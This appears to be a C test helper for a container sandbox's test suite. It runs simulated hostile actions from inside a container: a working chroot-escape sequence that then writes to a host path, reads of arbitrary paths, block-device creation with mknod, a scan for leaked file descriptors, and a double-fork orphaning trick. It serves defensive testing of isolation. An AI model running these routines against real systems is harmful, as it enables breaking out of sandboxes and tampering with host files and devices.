/* What a hostile app tries from inside its container; compiled (static) at test time.
 *
 *   attack chroot-escape NODE_PATH   mkdir x; chroot x; chdir .. many times; chroot .;
 *                                    then append to NODE_PATH; "/" changed: escaped
 *   attack read PATH                 open PATH for reading
 *   attack mknod MAJOR MINOR         make a block device node
 *   attack fds                       list every open fd above 2
 *   attack orphan SECONDS            double fork and setsid a sleeper, then return
 *
 * Each prints one line saying what happened and exits 0 when the attack failed, 1 when
 * it worked: the tests read the line, so a crash or a missing binary is no pass.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static int chroot_escape(const char *node_path)
{
    struct stat before, after;
    stat("/", &before);
    mkdir("/escape-x", 0755);
    if (chroot("/escape-x") != 0)
        printf("chroot x: %s; ", strerror(errno));
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0)
        printf("chroot .: %s; ", strerror(errno));
    stat("/", &after);
    /* Appending to NODE_PATH is what an escapee would do; whether "/" is still the
     * container's says if it could have reached the node's file of that name. */
    int fd = open(node_path, O_WRONLY | O_APPEND | O_CREAT, 0644);
    if (fd >= 0 && write(fd, "escaped\n", 8) != 8)
        printf("short write; ");
    if (before.st_dev == after.st_dev && before.st_ino == after.st_ino) {
        printf("contained: / is still the container's\n");
        return 0;
    }
    printf("ESCAPED\n");
    return 1;
}

static int read_path(const char *path)
{
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("denied: %s\n", strerror(errno));
        return 0;
    }
    printf("READ\n");
    return 1;
}

static int make_node(const char *major, const char *minor)
{
    if (mknod("/disk", S_IFBLK | 0600, makedev(atoi(major), atoi(minor))) != 0) {
        printf("mknod: %s\n", strerror(errno));
        return 0;
    }
    printf("MKNOD\n");
    return 1;
}

static int open_fds(void)
{
    int found = 0;
    for (int fd = 3; fd < 4096; fd++) {
        if (fcntl(fd, F_GETFD) != -1) {
            char link[64], target[4096];
            snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(link, target, sizeof target - 1);
            target[n < 0 ? 0 : n] = 0;
            printf("open fd %d -> %s; ", fd, target);
            found = 1;
        }
    }
    printf(found ? "LEAKED\n" : "no fd above 2\n");
    return found;
}

static int orphan(const char *seconds)
{
    pid_t child = fork();
    if (child == 0) {
        setsid();
        if (fork() == 0) {
            sleep(atoi(seconds));
            _exit(0);
        }
        _exit(0);
    }
    waitpid(child, NULL, 0);  /* only the setsid grandchild is left, reparented */
    printf("orphaned\n");
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc == 3 && strcmp(argv[1], "chroot-escape") == 0)
        return chroot_escape(argv[2]);
    if (argc == 3 && strcmp(argv[1], "read") == 0)
        return read_path(argv[2]);
    if (argc == 4 && strcmp(argv[1], "mknod") == 0)
        return make_node(argv[2], argv[3]);
    if (argc == 2 && strcmp(argv[1], "fds") == 0)
        return open_fds();
    if (argc == 3 && strcmp(argv[1], "orphan") == 0)
        return orphan(argv[2]);
    fprintf(stderr, "usage: attack chroot-escape|read|mknod|fds|orphan ...\n");
    return 2;
}
